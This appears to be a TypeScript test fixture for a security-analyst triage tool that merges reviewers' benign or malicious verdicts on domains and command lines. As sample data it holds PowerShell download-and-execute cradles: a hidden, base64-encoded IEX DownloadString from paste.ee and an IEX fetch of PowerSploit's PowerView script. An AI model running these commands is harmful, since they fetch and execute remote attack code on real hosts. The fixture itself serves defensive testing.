import { mergeReading, type MergeReading } from '../../src/engine/merge-reading';
import type { RareTenants } from '../../src/engine/rare-tenants';
import { groupArguments, type ReviewItem } from '../../src/engine/review-item';
import type { DomainDetail, ReviewChange } from '../../src/engine/readings';
import type { LoggedDecision } from '../../src/labels/decision';
import { hostileTexts } from './hostile-texts';

const hour = 3_600_000;
const now = Date.now();

/** A detail as the review queue shows it. */
export function itemOf(detail: DomainDetail, isSnapshot: boolean): ReviewItem {
  const encoded = '-nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAGEAcwB0AGUALgBlAGUALwByAC8AMQAyADMANAAnACkA';
  const build = (tag: string): DomainDetail['arguments'][number] => ({ ...detail.arguments[2]!, arguments: `-File C:\\build\\fetch.ps1 -Tag ${tag}` });
  const rows = isSnapshot ? [] : [...detail.arguments.slice(0, 3), build('v1.15.0'), build('v1.15.1'), { ...detail.arguments[3]!, arguments: encoded }];
  const neighbour = (fqdn: string, image: string, offsetMs: number, moments = 1) => ({ fqdn, image, offsetMs, moments });
  return {
    detail: { ...detail, arguments: rows, argumentsCount: rows.length },
    argumentsGroups: groupArguments(rows),
    neighbours: isSnapshot
      ? null
      : {
          moments: 10, allMoments: 38, withinMs: 60_000, count: 14,
          rows: [
            neighbour('docs.google.com', 'chrome.exe', -12_400, 4), neighbour('login.microsoftonline.com', 'teams.exe', 0, 3), neighbour('ctldl.windowsupdate.com', 'svchost.exe', 900, 2),
            neighbour(hostileTexts[2] ?? 'a.example', hostileTexts[3] ?? 'a.exe', 41_000),
          ],
        },
  };
}

const decision = (change: Partial<LoggedDecision> & { readonly id: string }): LoggedDecision => ({
  verdict: 'benign', level: 'base', domain: 'adobe.com', arguments: '', note: '', at: now - 5 * hour, author: '', source: '', loggedAt: now - 5 * hour, ...change,
});

const kim = { author: 'Kim Berg', source: 'kim-review.json', loggedAt: now - hour } as const;

/** Two analysts who mostly agree. */
const usualLog: readonly LoggedDecision[] = [
  decision({ id: 'd1', note: 'updater' }),
  decision({ id: 'd2', ...kim, at: now - 3 * hour, verdict: 'malicious', note: 'the installer is a trojan on WS-0417' }),
  decision({ id: 'd3', domain: 'raw.githubusercontent.com', level: 'arguments', arguments: '-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Recon/PowerView.ps1\')"', verdict: 'malicious', note: 'PowerView' }),
  decision({ id: 'd4', domain: 'raw.githubusercontent.com', level: 'arguments', arguments: '-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Recon/PowerView.ps1\')"', ...kim, at: null, verdict: 'benign', note: 'our own red team' }),
  ...Array.from({ length: 30 }, (_, at) => decision({ id: `y${at}`, domain: `name-${at}.example.com`, level: 'fqdn', verdict: at % 6 === 0 ? 'malicious' : 'benign' })),
  ...Array.from({ length: 30 }, (_, at) => decision({ id: `k${at}`, domain: `name-${at}.example.com`, level: 'fqdn', ...kim, at: now - 4 * hour, verdict: at % 6 === 0 ? 'malicious' : 'benign' })),
  decision({ id: 'd5', domain: 'paste.ee', verdict: null, at: now - 2 * hour }),
];

const hostileLog: readonly LoggedDecision[] = hostileTexts.flatMap((text, at) => [
  decision({ id: `h${at}`, level: 'arguments', domain: `name-${at}.example.com`, arguments: text, note: text }),
  decision({ id: `i${at}`, level: 'arguments', domain: `name-${at}.example.com`, arguments: text, note: text, author: text, source: text, verdict: 'malicious', loggedAt: now - hour }),
]);

export const merges = { usual: mergeReading(usualLog), hostile: mergeReading(hostileLog), none: mergeReading([]) } satisfies Record<string, MergeReading>;

/** What the engine says of verdicts just set. */
export const decided = (changes: readonly ReviewChange[]) => ({
  logged: [] as readonly LoggedDecision[],
  undo: changes.map((change) => ({ ...change, verdict: null })),
});

export const usualTenants: RareTenants = {
  count: 4,
  tenants: [
    { baseDomain: 'workers.dev', tenant: 'cdn-sync.workers.dev', kind: 'web hosting', connections: 1, fqdns: 1, meanPerFqdn: 1, machines: 1, baseMean: 211.4 },
    { baseDomain: 'amazonaws.com', tenant: 'x71.s3.amazonaws.com', kind: 'private suffix', connections: 3, fqdns: 2, meanPerFqdn: 1.5, machines: 1, baseMean: 785.5 },
    { baseDomain: 'githubusercontent.com', tenant: 'raw.githubusercontent.com/powershellmafia', kind: 'code hosting', connections: 5, fqdns: 1, meanPerFqdn: 5, machines: 1, baseMean: 19 },
    { baseDomain: 'telegram.org', tenant: `api.telegram.org/${hostileTexts[1] ?? ''}`, kind: 'messaging', connections: 5, fqdns: 1, meanPerFqdn: 5, machines: 2, baseMean: 40 },
  ],
};
